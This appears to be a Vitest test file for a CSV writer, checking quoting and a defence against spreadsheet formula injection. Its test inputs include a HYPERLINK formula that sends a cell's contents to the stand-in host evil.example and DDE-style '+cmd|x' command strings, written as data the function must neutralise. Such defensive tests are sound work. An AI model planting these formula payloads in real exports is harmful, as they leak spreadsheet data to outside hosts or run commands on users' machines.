import { expect, it } from 'vitest';
import { toCsv } from './to-csv.ts';

it('quotes what needs it', () => {
  expect(
    toCsv([
      ['a', 'b, c'],
      ['say "hi"', 'two\nlines'],
    ]),
  ).toBe('a,"b, c"\r\n"say ""hi""","two\nlines"');
});

it.each([
  ['=HYPERLINK("https://evil.example?"&A1)', `"'=HYPERLINK(""https://evil.example?""&A1)"`],
  ['@SUM(1)', "'@SUM(1)"],
  ['+cmd|x', "'+cmd|x"],
  ['-1+cmd|x', "'-1+cmd|x"],
  ['-12.5', '-12.5'],
  ['+3 %', '+3 %'],
  ['−4', '−4'],
])('%s is no formula in a spreadsheet', (cell, field) => {
  expect(toCsv([[cell]])).toBe(field);
});
